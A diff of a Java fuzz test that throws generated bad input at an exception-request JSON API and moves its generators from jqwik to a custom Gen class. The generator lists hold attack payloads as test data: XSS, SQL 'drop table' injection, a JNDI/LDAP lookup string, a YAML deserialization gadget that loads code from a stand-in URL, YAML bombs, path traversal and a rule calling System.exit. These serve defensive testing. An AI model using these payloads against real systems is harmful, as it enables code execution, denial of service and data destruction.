@@ -1,5 +1,8 @@
 package com.leeway.system;
 
+import static com.leeway.system.Gen.frequencyOf;
+import static com.leeway.system.Gen.of;
+import static com.leeway.system.Gen.weight;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.io.IOException;
@@ -10,6 +13,7 @@ import java.util.Base64;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.Random;
 import java.util.function.Function;
 import java.util.function.Supplier;
 import java.util.stream.Collectors;
@@ -32,12 +36,6 @@ import com.leeway.LeewayApi;
 import com.leeway.TestFolders;
 import com.leeway.system.RawApi.Answer;
 
-import net.jqwik.api.Arbitraries;
-import net.jqwik.api.Arbitrary;
-import net.jqwik.api.Combinators;
-import net.jqwik.api.Tuple;
-import net.jqwik.engine.SourceOfRandomness;
-
 /**
  * Throws generated bad input at every POST of the JSON API over real HTTP: malformed, partial and oversized JSON,
  * wrong types, nulls, huge strings and numbers, control and other unusual characters, odd content types, deep
@@ -45,8 +43,8 @@ import net.jqwik.engine.SourceOfRandomness;
  * role that may call the endpoint (so validation is reached), as one that may not, and as nobody.
  * <p>
  * For every answer: never a 5xx; every 4xx is a problem ({@code application/problem+json}) with a plain detail;
- * and nothing is stored unless the answer is a 2xx. Inputs come from jqwik generators drawn with a seed that is
- * printed with any failure; run again with {@code -Dfuzz.seed=...} to repeat a run exactly.
+ * and nothing is stored unless the answer is a 2xx. Inputs are a generated corpus drawn with a seed (see {@link Gen})
+ * that is printed with any failure; run again with {@code -Dfuzz.seed=...} to repeat a run exactly.
  */
 @SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
 		properties = { "leeway.rules.watch-interval=1h", "leeway.rules.sync-interval=1h", "leeway.follow-up.interval=1h",
@@ -62,6 +60,10 @@ class ApiFuzzIntegrationTests {
 	/** Tables whose rows may only grow when the API answered 2xx. */
 	static final List<String> TABLES = List.of("exception_request", "request_event", "notice", "satisfaction",
 			"feedback", "ruleset_version", "ruleset_file");
+
+	static final String LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
+
+	static final String DIGITS = "0123456789";
 
 	static final String SEED = System.getProperty("fuzz.seed", String.valueOf(System.nanoTime()));
 
@@ -134,16 +136,16 @@ class ApiFuzzIntegrationTests {
 
 	@Test
 	void submittingAndDryRunsNeverFailOnTheServerAndStoreNothingWhenRejected() {
-		Map<String, Arbitrary<String>> fields = submitFields();
+		Map<String, Gen<String>> fields = submitFields();
 		fuzz(REQUESTS, just(REQUESTS), null, List.of("alice", "ian", "admin"), List.of(), body(fields), 500);
 		fuzz("/api/v1/evaluations", just("/api/v1/evaluations"), null, List.of("bob", "maria"), List.of(), body(fields), 300);
 	}
 
 	@Test
 	void decisionsNeverFailOnTheServer() {
-		Map<String, Arbitrary<String>> fields = new LinkedHashMap<>();
-		fields.put("decision", Arbitraries.of("\"APPROVE\"", "\"DENY\"", "\"ESCALATE\"", "\"approve\"", "\"MAYBE\"", "0")
-			.injectNull(0.05));
+		Map<String, Gen<String>> fields = new LinkedHashMap<>();
+		fields.put("decision", of("\"APPROVE\"", "\"DENY\"", "\"ESCALATE\"", "\"approve\"", "\"MAYBE\"", "0")
+			.orNull(0.05));
 		fields.put("justification", quoted(texts()));
 		fuzz("decision by a manager", ids("/decision"), fresh("ESCALATED"), List.of("maria"),
 				List.of("alice", "frank", "bob"), body(fields), 200);
@@ -153,19 +155,19 @@ class ApiFuzzIntegrationTests {
 
 	@Test
 	void followThroughNeverFailsOnTheServer() {
-		Map<String, Arbitrary<String>> renewal = new LinkedHashMap<>();
+		Map<String, Gen<String>> renewal = new LinkedHashMap<>();
 		renewal.put("whatChanged", quoted(texts()));
 		renewal.put("durationDays", numbers());
 		fuzz("renewal", ids("/renewal"), fresh("APPROVED"), List.of("alice"), List.of("bob", "maria"), body(renewal),
 				150);
 
-		Map<String, Arbitrary<String>> revocation = Map.of("reason", quoted(texts()));
+		Map<String, Gen<String>> revocation = Map.of("reason", quoted(texts()));
 		fuzz("revocation", ids("/revocation"), fresh("APPROVED"), List.of("ian", "maria"), List.of("alice", "frank"),
 				body(revocation), 150);
 
-		Map<String, Arbitrary<String>> answer = new LinkedHashMap<>();
-		answer.put("rating", Arbitraries.frequencyOf(Tuple.of(3, Arbitraries.integers().between(1, 5).map(String::valueOf)),
-				Tuple.of(2, numbers())));
+		Map<String, Gen<String>> answer = new LinkedHashMap<>();
+		answer.put("rating", frequencyOf(weight(3, Gen.integers(1, 5).map(String::valueOf)),
+				weight(2, numbers())));
 		answer.put("comment", quoted(texts()));
 		fuzz("satisfaction", ids("/satisfaction"), fresh("APPROVED"), List.of("alice"), List.of("bob", "ian"),
 				body(answer), 250);
@@ -175,47 +177,46 @@ class ApiFuzzIntegrationTests {
 
 		fuzz("withdrawal", ids("/withdrawal"), fresh("IN_REVIEW"), List.of("alice"), List.of("bob", "maria"), anyJson(),
 				80);
-		fuzz("notice read", Arbitraries.of("1", "2", "0", "-1", "x", "99999999999999999999")
+		fuzz("notice read", of("1", "2", "0", "-1", "x", "99999999999999999999")
 			.map(id -> "/api/v1/notifications/" + id + "/read"), null, List.of("alice"), List.of("bob"), anyJson(), 80);
 	}
 
 	@Test
 	void listingWithAnyPagingNeverFailsOnTheServer() {
-		Arbitrary<String> value = Arbitraries.oneOf(Arbitraries.integers().map(String::valueOf),
-				Arbitraries.longs().map(String::valueOf), Arbitraries.of("", "-0", "1e3", "x", "2147483648", "%00",
+		Gen<String> value = Gen.oneOf(Gen.integers().map(String::valueOf),
+				Gen.longs().map(String::valueOf), of("", "-0", "1e3", "x", "2147483648", "%00",
 						"99999999999999999999", "ESCALATED", "escalated", "NONSENSE", "%F0%9F%92%A5"));
-		Arbitrary<String> query = Combinators
-			.combine(Arbitraries.of("page", "size", "status", "standardKey", "department", "unknown"), value)
-			.as((name, text) -> name + "=" + text)
-			.list()
-			.ofMaxSize(4)
+		Gen<String> query = Gen
+			.combine(of("page", "size", "status", "standardKey", "department", "unknown"), value,
+					(name, text) -> name + "=" + text)
+			.list(4)
 			.map(parts -> REQUESTS + "?" + String.join("&", parts));
 		List<String> users = List.of("alice", "ian", "maria");
-		List<Try> tries = sample(Combinators.combine(query, Arbitraries.of(users)).as((path, user) ->
+		List<Try> tries = sample(Gen.combine(query, of(users), (path, user) ->
 				new Try("list", user, "GET", path, null, null)), 300, "list");
 		check(tries);
 	}
 
 	@Test
 	void ruleSetsNeverFailOnTheServerAndArePublishedOnlyOnSuccess() {
-		Arbitrary<String> candidate = candidates();
+		Gen<String> candidate = candidates();
 		for (String path : List.of(RULESETS + "/validate", RULESETS + "/tests", RULESETS + "/preview", RULESETS)) {
 			fuzz(path, just(path), null, List.of("ian", "admin"), List.of("alice", "maria"), candidate, 50);
 		}
-		Map<String, Arbitrary<String>> note = Map.of("note", quoted(texts()));
-		fuzz("rollback", Arbitraries.of("abc", "0".repeat(64), "..", "%2e%2e", "x".repeat(300), activeVersion())
+		Map<String, Gen<String>> note = Map.of("note", quoted(texts()));
+		fuzz("rollback", of("abc", "0".repeat(64), "..", "%2e%2e", "x".repeat(300), activeVersion())
 			.map(version -> RULESETS + "/" + version + "/rollback"), null, List.of("ian"), List.of("bob"), body(note), 60);
 	}
 
 	@Test
 	void unknownAddressesAndMethodsAreProblemsToo() {
-		Arbitrary<String> path = Arbitraries.of("/api/v1/nothing", "/api/v2/exception-requests", "/api/test/clock",
+		Gen<String> path = of("/api/v1/nothing", "/api/v2/exception-requests", "/api/test/clock",
 				"/api/test/jobs", "/api/v1/exception-requests/1/unknown", "/api/v1/rulesets/active", "/api/v1/standards",
 				REQUESTS, REQUESTS + "/1");
-		Arbitrary<String> method = Arbitraries.of("POST", "PUT", "DELETE", "PATCH", "GET");
-		List<Try> tries = sample(Combinators.combine(path, method, contentTypes(), anyJson(), users(List.of("alice",
-				"admin"), List.of()))
-			.as((where, how, type, body, user) -> new Try("address", user, how, where, type, body)), 150, "address");
+		Gen<String> method = of("POST", "PUT", "DELETE", "PATCH", "GET");
+		List<Try> tries = sample(Gen.combine(path, method, contentTypes(), anyJson(), users(List.of("alice",
+				"admin"), List.of()),
+				(where, how, type, body, user) -> new Try("address", user, how, where, type, body)), 150, "address");
 		check(tries);
 	}
 
@@ -235,10 +236,10 @@ class ApiFuzzIntegrationTests {
 	 * {@code paths} may hold {@code {id}}: the request the endpoint works on, made by {@code fixtures} and made
 	 * again after every call that succeeded (a decided or revoked request would only answer 409 from then on).
 	 */
-	void fuzz(String endpoint, Arbitrary<String> paths, Supplier<Long> fixtures, List<String> allowed,
-			List<String> forbidden, Arbitrary<String> bodies, int count) {
-		Arbitrary<Try> tries = Combinators.combine(paths, users(allowed, forbidden), contentTypes(), bodies)
-			.as((path, user, type, body) -> new Try(endpoint, user, "POST", path, type, body));
+	void fuzz(String endpoint, Gen<String> paths, Supplier<Long> fixtures, List<String> allowed,
+			List<String> forbidden, Gen<String> bodies, int count) {
+		Gen<Try> tries = Gen.combine(paths, users(allowed, forbidden), contentTypes(), bodies,
+				(path, user, type, body) -> new Try(endpoint, user, "POST", path, type, body));
 		List<Try> drawn = sample(tries, count, endpoint);
 		check(drawn, fixtures);
 	}
@@ -247,10 +248,12 @@ class ApiFuzzIntegrationTests {
 		check(tries, null);
 	}
 
-	/** Draws tries from a generator, reproducibly for the run's seed. */
-	<T> List<T> sample(Arbitrary<T> arbitrary, int count, String endpoint) {
-		SourceOfRandomness.create(String.valueOf(Long.parseLong(SEED) + endpoint.hashCode()));
-		return arbitrary.sampleStream().limit(count).toList();
+	/**
+	 * Draws tries from a generator, reproducibly for the run's seed: each endpoint draws from its own
+	 * {@link Random} derived from the seed, so its tries are the same whichever tests run and in what order.
+	 */
+	<T> List<T> sample(Gen<T> gen, int count, String endpoint) {
+		return gen.sample(new Random(Long.parseLong(SEED) + endpoint.hashCode()), count);
 	}
 
 	void check(List<Try> tries, Supplier<Long> fixtures) {
@@ -341,78 +344,79 @@ class ApiFuzzIntegrationTests {
 
 	// ---------------------------------------------------------------- generators
 
-	static Arbitrary<String> just(String value) {
-		return Arbitraries.just(value);
+	static Gen<String> just(String value) {
+		return Gen.just(value);
 	}
 
 	/** The request's own id most of the time; otherwise ids that do not exist or are not numbers at all. */
-	static Arbitrary<String> ids(String suffix) {
-		return Arbitraries.frequencyOf(Tuple.of(9, Arbitraries.just("{id}")),
-				Tuple.of(1, Arbitraries.of("0", "-1", "abc", "999999999", "9223372036854775808", "1.5", "%20", "1e3")))
+	static Gen<String> ids(String suffix) {
+		return frequencyOf(weight(9, Gen.just("{id}")),
+				weight(1, of("0", "-1", "abc", "999999999", "9223372036854775808", "1.5", "%20", "1e3")))
 			.map(id2 -> REQUESTS + "/" + id2 + suffix);
 	}
 
-	static Arbitrary<String> users(List<String> allowed, List<String> forbidden) {
-		List<Tuple.Tuple2<Integer, Arbitrary<String>>> choices = new ArrayList<>();
-		choices.add(Tuple.of(12, Arbitraries.of(allowed)));
+	static Gen<String> users(List<String> allowed, List<String> forbidden) {
+		List<Gen.Weighted<String>> choices = new ArrayList<>();
+		choices.add(weight(12, of(allowed)));
 		if (!forbidden.isEmpty()) {
-			choices.add(Tuple.of(2, Arbitraries.of(forbidden)));
+			choices.add(weight(2, of(forbidden)));
 		}
-		choices.add(Tuple.of(1, Arbitraries.just((String) null)));
-		return Arbitraries.frequencyOf(choices);
+		choices.add(weight(1, Gen.just((String) null)));
+		return frequencyOf(choices);
 	}
 
-	static Arbitrary<String> contentTypes() {
-		return Arbitraries.frequencyOf(Tuple.of(14, Arbitraries.just("application/json")),
-				Tuple.of(3, Arbitraries.of("*/*", "text/plain", "application/xml", "application/*", "*/json", "nonsense",
+	static Gen<String> contentTypes() {
+		return frequencyOf(weight(14, Gen.just("application/json")),
+				weight(3, of("*/*", "text/plain", "application/xml", "application/*", "*/json", "nonsense",
 						"application/json; charset=nonsense", "application/json; charset=ISO-8859-1",
 						"application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=x",
 						"application/problem+json", "application/json;;", "", "text/html; charset=utf-8")),
-				Tuple.of(1, Arbitraries.just((String) null)));
+				weight(1, Gen.just((String) null)));
 	}
 
 	/** Free text as people and attackers type it: empty, blank, at and past every limit, odd characters. */
-	static Arbitrary<String> texts() {
-		return Arbitraries.frequencyOf(
-				Tuple.of(4, Arbitraries.strings().alpha().numeric().withChars(" .,'-").ofMinLength(10).ofMaxLength(80)),
-				Tuple.of(2, Arbitraries.strings().all().ofMaxLength(40)),
-				Tuple.of(1, Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMaxLength(12)),
-				Tuple.of(1, Arbitraries.of("", " ", "\t\n", "null", "👩‍💻\u202Eevil\u200B", "\uD800", "\uFEFF",
+	static Gen<String> texts() {
+		return frequencyOf(
+				weight(4, Gen.strings(LETTERS + DIGITS + " .,'-", 10, 80)),
+				weight(2, Gen.strings(Character.MIN_VALUE, Character.MAX_VALUE, 0, 40)),
+				weight(1, Gen.strings('\u0000', '\u001f', 0, 12)),
+				weight(1, of("", " ", "\t\n", "null", "👩‍💻\u202Eevil\u200B", "\uD800", "\uFEFF",
 						"<script>alert(1)</script>", "'; drop table exception_request; --", "${jndi:ldap://x/a}",
 						"{0}{1}{99}", "%s%n")),
-				Tuple.of(2, Arbitraries.of(63, 64, 65, 99, 100, 101, 199, 200, 201, 1999, 2000, 2001, 3999, 4000, 4001,
+				weight(2, of(63, 64, 65, 99, 100, 101, 199, 200, 201, 1999, 2000, 2001, 3999, 4000, 4001,
 						7950, 8001, 20_000, 300_000).map(length -> "x".repeat(length))));
 	}
 
 	/** A valid value most of the time, so that the other fields' checks are reached too. */
-	static Arbitrary<String> mostly(String valid, Arbitrary<String> others) {
-		return Arbitraries.frequencyOf(Tuple.of(5, Arbitraries.just(valid)), Tuple.of(1, others));
+	static Gen<String> mostly(String valid, Gen<String> others) {
+		return frequencyOf(weight(5, Gen.just(valid)), weight(1, others));
 	}
 
-	static Arbitrary<String> quoted(Arbitrary<String> texts) {
+	static Gen<String> quoted(Gen<String> texts) {
 		return texts.map(RawApi::json);
 	}
 
 	/** Numbers as JSON text: ordinary, at the edges, beyond int and long, huge exponents, not numbers at all. */
-	static Arbitrary<String> numbers() {
-		return Arbitraries.frequencyOf(Tuple.of(4, Arbitraries.integers().between(-5, 1200).map(String::valueOf)),
-				Tuple.of(1, Arbitraries.integers().map(String::valueOf)),
-				Tuple.of(1, Arbitraries.of("2147483648", "-2147483649", "9223372036854775808", "1e400", "-1e400",
+	static Gen<String> numbers() {
+		return frequencyOf(weight(4, Gen.integers(-5, 1200).map(String::valueOf)),
+				weight(1, Gen.integers().map(String::valueOf)),
+				weight(1, of("2147483648", "-2147483649", "9223372036854775808", "1e400", "-1e400",
 						"1e-400", "1" + "0".repeat(999), "1" + "0".repeat(5000), "0.5", "1.0", "-0", "NaN", "Infinity",
 						"0x10", "01", "\"90\"", "\"ninety\"", "true", "[]", "{}")));
 	}
 
-	/** Any JSON value, nested a little. */
-	static Arbitrary<String> anyJson() {
-		Arbitrary<String> scalar = Arbitraries.oneOf(numbers(), quoted(texts()), Arbitraries.of("null", "true", "false"));
-		return Arbitraries.recursive(() -> scalar,
-				inner -> Arbitraries.oneOf(inner.list().ofMaxSize(4).map(items -> "[" + String.join(",", items) + "]"),
-						Combinators.combine(Arbitraries.strings().alpha().ofMaxLength(8), inner)
-							.as((key, value) -> RawApi.json(key) + ":" + value)
-							.list()
-							.ofMaxSize(4)
-							.map(pairs -> "{" + String.join(",", pairs) + "}")),
-				0, 3);
+	/** Any JSON value, nested a little: a scalar wrapped in zero to three levels of arrays and objects. */
+	static Gen<String> anyJson() {
+		Gen<String> scalar = Gen.oneOf(numbers(), quoted(texts()), of("null", "true", "false"));
+		List<Gen<String>> byDepth = new ArrayList<>(List.of(scalar));
+		for (int depth = 1; depth <= 3; depth++) {
+			Gen<String> inner = byDepth.get(depth - 1);
+			byDepth.add(Gen.oneOf(inner.list(4).map(items -> "[" + String.join(",", items) + "]"),
+					Gen.combine(Gen.strings(LETTERS, 0, 8), inner, (key, value) -> RawApi.json(key) + ":" + value)
+						.list(4)
+						.map(pairs -> "{" + String.join(",", pairs) + "}")));
+		}
+		return random -> byDepth.get(random.nextInt(byDepth.size())).next(random);
 	}
 
 	/**
@@ -420,43 +424,43 @@ class ApiFuzzIntegrationTests {
 	 * value, or left out (plus sometimes an unknown field); sometimes no object at all, JSON cut short, nesting
 	 * thousands deep, a huge array, or nothing.
 	 */
-	static Arbitrary<String> body(Map<String, Arbitrary<String>> fields) {
-		List<Arbitrary<String>> members = new ArrayList<>();
-		fields.forEach((name, valid) -> members.add(Arbitraries.frequencyOf(Tuple.of(16, valid),
-				Tuple.of(2, anyJson()), Tuple.of(1, Arbitraries.just((String) null)))
+	static Gen<String> body(Map<String, Gen<String>> fields) {
+		List<Gen<String>> members = new ArrayList<>();
+		fields.forEach((name, valid) -> members.add(frequencyOf(weight(16, valid),
+				weight(2, anyJson()), weight(1, Gen.just((String) null)))
 			.map(value -> value == null ? "" : RawApi.json(name) + ":" + value)));
-		members.add(Arbitraries.frequencyOf(Tuple.of(8, Arbitraries.just("")),
-				Tuple.of(1, anyJson().map(value -> "\"unknownField\":" + value))));
-		Arbitrary<String> object = Combinators.combine(members)
-			.as(parts -> "{" + parts.stream().filter(part -> !part.isEmpty()).collect(Collectors.joining(",")) + "}");
-		return Arbitraries.frequencyOf(Tuple.of(24, object), Tuple.of(2, anyJson()),
-				Tuple.of(2, Combinators.combine(object, Arbitraries.integers().between(0, 100))
-					.as((text, percent) -> text.substring(0, text.length() * percent / 100))),
-				Tuple.of(1, Arbitraries.of(1, 100, 600, 5_000, 50_000).map(depth -> "[".repeat(depth) + "]".repeat(depth))),
-				Tuple.of(1, Arbitraries.of(1_000, 200_000).map(depth -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth))),
-				Tuple.of(1, Arbitraries.of(10_000, 300_000).map(length -> "[" + "1,".repeat(length) + "1]")),
-				Tuple.of(1, Arbitraries.of("", " ", "\u0000", "{", "}", "{\"a\"}", "{'a':1}", "\uFEFF{}", "[", "nul",
+		members.add(frequencyOf(weight(8, Gen.just("")),
+				weight(1, anyJson().map(value -> "\"unknownField\":" + value))));
+		Gen<String> object = Gen.combine(members)
+			.map(parts -> "{" + parts.stream().filter(part -> !part.isEmpty()).collect(Collectors.joining(",")) + "}");
+		return frequencyOf(weight(24, object), weight(2, anyJson()),
+				weight(2, Gen.combine(object, Gen.integers(0, 100),
+					(text, percent) -> text.substring(0, text.length() * percent / 100))),
+				weight(1, of(1, 100, 600, 5_000, 50_000).map(depth -> "[".repeat(depth) + "]".repeat(depth))),
+				weight(1, of(1_000, 200_000).map(depth -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth))),
+				weight(1, of(10_000, 300_000).map(length -> "[" + "1,".repeat(length) + "1]")),
+				weight(1, of("", " ", "\u0000", "{", "}", "{\"a\"}", "{'a':1}", "\uFEFF{}", "[", "nul",
 						"\"just text\"", "{\"product\":\"\\ud800\"}", "{\"product\":\"\\u0000\"}",
 						"{\"a\":1,\"a\":2}", "{\"durationDays\":1}{\"durationDays\":2}")));
 	}
 
-	static Map<String, Arbitrary<String>> submitFields() {
-		Map<String, Arbitrary<String>> fields = new LinkedHashMap<>();
-		fields.put("standardKey", Arbitraries.frequencyOf(Tuple.of(6, Arbitraries.of("\"WORD_PROCESSING\"",
-				"\"COLLABORATION_SAAS\"", "\"OPERATING_SYSTEM\"")), Tuple.of(1, quoted(texts()))));
-		fields.put("product", Arbitraries.frequencyOf(Tuple.of(4, Arbitraries.of("\"WordPerfect\"", "\"Notion\"")),
-				Tuple.of(2, quoted(texts()))));
+	static Map<String, Gen<String>> submitFields() {
+		Map<String, Gen<String>> fields = new LinkedHashMap<>();
+		fields.put("standardKey", frequencyOf(weight(6, of("\"WORD_PROCESSING\"",
+				"\"COLLABORATION_SAAS\"", "\"OPERATING_SYSTEM\"")), weight(1, quoted(texts()))));
+		fields.put("product", frequencyOf(weight(4, of("\"WordPerfect\"", "\"Notion\"")),
+				weight(2, quoted(texts()))));
 		fields.put("productVersion", mostly("\"2021\"", quoted(texts())));
-		fields.put("justification", Arbitraries.frequencyOf(Tuple.of(3, Arbitraries.just(
+		fields.put("justification", frequencyOf(weight(3, Gen.just(
 				"\"Our legal partner sends files in this format that we must edit losslessly.\"")),
-				Tuple.of(2, quoted(texts()))));
+				weight(2, quoted(texts()))));
 		fields.put("durationDays", mostly("90", numbers()));
 		fields.put("usersAffected", mostly("3", numbers()));
-		fields.put("dataClassification", Arbitraries.frequencyOf(Tuple.of(4, Arbitraries.of("\"PUBLIC\"", "\"INTERNAL\"",
-				"\"CONFIDENTIAL\"", "\"REGULATED\"")), Tuple.of(1, Arbitraries.of("\"internal\"", "\"SECRET\"", "\"\"", "0"))));
+		fields.put("dataClassification", frequencyOf(weight(4, of("\"PUBLIC\"", "\"INTERNAL\"",
+				"\"CONFIDENTIAL\"", "\"REGULATED\"")), weight(1, of("\"internal\"", "\"SECRET\"", "\"\"", "0"))));
 		fields.put("compensatingControls", mostly("\"Files are scanned on arrival.\"", quoted(texts())));
-		fields.put("estimatedCost", Arbitraries.frequencyOf(Tuple.of(6, Arbitraries.of("250", "1200.50")), Tuple.of(3, numbers()),
-				Tuple.of(1, Arbitraries.of("12.345", "123456789012.99", "1234567890123", "1e12", "-0.01", "1E-20",
+		fields.put("estimatedCost", frequencyOf(weight(6, of("250", "1200.50")), weight(3, numbers()),
+				weight(1, of("12.345", "123456789012.99", "1234567890123", "1e12", "-0.01", "1E-20",
 						"1e999999999", "\"250\""))));
 		return fields;
 	}
@@ -479,7 +483,7 @@ class ApiFuzzIntegrationTests {
 
 	static final String DEEP_YAML = "tests:\n  - " + "[".repeat(5_000) + "]".repeat(5_000) + "\n";
 
-	static Arbitrary<String> yamlBombs() {
+	static Gen<String> yamlBombs() {
 		StringBuilder laughs = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
 		for (char name = 'b'; name <= 'j'; name++) {
 			laughs.append(name).append(": &").append(name).append(" [");
@@ -488,68 +492,65 @@ class ApiFuzzIntegrationTests {
 			}
 			laughs.append("]\n");
 		}
-		return Arbitraries.of(DEEP_YAML, laughs.toString(), "tests: &a [*a]\n", "a: 1\na: 2\n",
+		return of(DEEP_YAML, laughs.toString(), "tests: &a [*a]\n", "a: 1\na: 2\n",
 				"standards:\n  - key: X\n    key: Y\n", "tests:\n  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
 				"x: " + "y".repeat(1_100_000), "tests: [", "\t- bad indentation\n", "tests:\n  - name: ok\n");
 	}
 
-	static Arbitrary<String> ruleTexts() {
-		return Arbitraries.frequencyOf(Tuple.of(2, yamlBombs()),
-				Tuple.of(5, Arbitraries.of(GENEROUS_RULE, "tests:\n  - name: Nothing to check\n    request: { standardKey: WORD_PROCESSING, product: WordPerfect }\n    expect: { outcome: APPROVE }\n")),
-				Tuple.of(2, Arbitraries.of("package leeway.rules\nrule \"Broken\" when then end\n",
+	static Gen<String> ruleTexts() {
+		return frequencyOf(weight(2, yamlBombs()),
+				weight(5, of(GENEROUS_RULE, "tests:\n  - name: Nothing to check\n    request: { standardKey: WORD_PROCESSING, product: WordPerfect }\n    expect: { outcome: APPROVE }\n")),
+				weight(2, of("package leeway.rules\nrule \"Broken\" when then end\n",
 						"package leeway.rules\n", "rule \"x\" when eval(true) then System.exit(0); end", "garbage ;;; {{{",
 						"\u0000\u0001\u0002", "RuleSet,Broken\nRuleTable x\nCONDITION\n", ",,,,\n;;;\n\"", "")),
-				Tuple.of(2, texts()), Tuple.of(1, Arbitraries.just((String) null)));
+				weight(2, texts()), weight(1, Gen.just((String) null)));
 	}
 
-	static Arbitrary<String> filePaths() {
-		List<Tuple.Tuple2<Integer, Arbitrary<String>>> paths = new ArrayList<>();
-		paths.add(Tuple.of(8, Arbitraries.of("extra.drl", "tests/fuzz.yaml", "tests/fuzz.yml", "standards.yaml",
+	static Gen<String> filePaths() {
+		List<Gen.Weighted<String>> paths = new ArrayList<>();
+		paths.add(weight(8, of("extra.drl", "tests/fuzz.yaml", "tests/fuzz.yml", "standards.yaml",
 				"sub/extra.drl", "escalation.drl", "tests/escalation.yaml")));
 		if (DECISION_TABLES) {
-			paths.add(Tuple.of(1, Arbitraries.of("fuzz.drl.csv", "fuzz.drl.xlsx")));
+			paths.add(weight(1, of("fuzz.drl.csv", "fuzz.drl.xlsx")));
 		}
-		paths.add(Tuple.of(3, Arbitraries.of("", " ", "../outside.drl", "/etc/passwd.drl", "C:\\x.drl", "a//b.drl", "dir/",
+		paths.add(weight(3, of("", " ", "../outside.drl", "/etc/passwd.drl", "C:\\x.drl", "a//b.drl", "dir/",
 				"x.txt", ".hidden.drl", "tests/.x.yaml", "~backup.drl", "x\u0000.drl", "\u00e9.drl",
 				"a".repeat(300) + ".drl", "tests/../../x.yaml", "%2e%2e/x.drl", "x.drl ")));
-		paths.add(Tuple.of(1, Arbitraries.strings().all().ofMaxLength(30)));
-		return Arbitraries.frequencyOf(paths);
+		paths.add(weight(1, Gen.strings(Character.MIN_VALUE, Character.MAX_VALUE, 0, 30)));
+		return frequencyOf(paths);
 	}
 
-	static Arbitrary<String> base64s() {
-		return Arbitraries.frequencyOf(
-				Tuple.of(2, Arbitraries.of("not base64!", "====", "", "AAA", "A", "\u00e9\u00e9", "QUJD\nREVG")),
-				Tuple.of(2, Arbitraries.bytes().array(byte[].class).ofMaxSize(64)
+	static Gen<String> base64s() {
+		return frequencyOf(
+				weight(2, of("not base64!", "====", "", "AAA", "A", "\u00e9\u00e9", "QUJD\nREVG")),
+				weight(2, Gen.bytes(64)
 					.map(bytes -> Base64.getEncoder().encodeToString(bytes))),
-				Tuple.of(1, Arbitraries.just((String) null)));
+				weight(1, Gen.just((String) null)));
 	}
 
-	static Arbitrary<String> candidates() {
-		Arbitrary<String> files = Combinators.combine(filePaths(), ruleTexts())
-			.as((path, text) -> RawApi.json(path) + ":" + (text == null ? "null" : RawApi.json(text)))
-			.list()
-			.ofMaxSize(2)
+	static Gen<String> candidates() {
+		Gen<String> files = Gen.combine(filePaths(), ruleTexts(),
+				(path, text) -> RawApi.json(path) + ":" + (text == null ? "null" : RawApi.json(text)))
+			.list(2)
 			.map(pairs -> "{" + String.join(",", pairs) + "}");
-		Arbitrary<String> binaryFiles = Combinators.combine(filePaths(), base64s())
-			.as((path, text) -> RawApi.json(path) + ":" + (text == null ? "null" : RawApi.json(text)))
-			.list()
-			.ofMaxSize(2)
+		Gen<String> binaryFiles = Gen.combine(filePaths(), base64s(),
+				(path, text) -> RawApi.json(path) + ":" + (text == null ? "null" : RawApi.json(text)))
+			.list(2)
 			.map(pairs -> "{" + String.join(",", pairs) + "}");
-		Arbitrary<String> deleted = Arbitraries.frequencyOf(Tuple.of(3, filePaths().map(RawApi::json)),
-				Tuple.of(1, Arbitraries.just("null")))
-			.list()
-			.ofMaxSize(2)
+		Gen<String> deleted = frequencyOf(weight(3, filePaths().map(RawApi::json)),
+				weight(1, Gen.just("null")))
+			.list(2)
 			.map(items -> "[" + String.join(",", items) + "]");
-		Map<String, Arbitrary<String>> fields = new LinkedHashMap<>();
-		fields.put("files", Arbitraries.frequencyOf(Tuple.of(4, files), Tuple.of(1, Arbitraries.of("{\"tests/many.yaml\":"
+		Map<String, Gen<String>> fields = new LinkedHashMap<>();
+		fields.put("files", frequencyOf(weight(4, files), weight(1, of("{\"tests/many.yaml\":"
 				+ RawApi.json("tests:\n" + "  - name: x\n".repeat(20_000)) + "}", manyFiles()))));
 		// mostly harmless around the files, so that many candidates get as far as compiling and testing
 		fields.put("binaryFiles", mostly("{}", binaryFiles));
 		fields.put("deleted", mostly("[]", deleted));
-		fields.put("replaceAll", mostly("false", Arbitraries.of("true", "null", "\"yes\"", "1")));
+		fields.put("replaceAll", mostly("false", of("true", "null", "\"yes\"", "1")));
 		fields.put("note", mostly("\"A change made by the fuzz test.\"", quoted(texts())));
-		fields.put("from", mostly("\"2026-01-01T00:00:00Z\"", Arbitraries.of("\"garbage\"", "5", "\"+999999999-12-31T23:59:59Z\"")));
-		fields.put("to", mostly("\"2027-01-01T00:00:00Z\"", Arbitraries.of("\"1970-01-01T00:00:00Z\"", "[]")));
+		fields.put("from", mostly("\"2026-01-01T00:00:00Z\"", of("\"garbage\"", "5", "\"+999999999-12-31T23:59:59Z\"")));
+		fields.put("to", mostly("\"2027-01-01T00:00:00Z\"", of("\"1970-01-01T00:00:00Z\"", "[]")));
 		return body(fields);
 	}
 
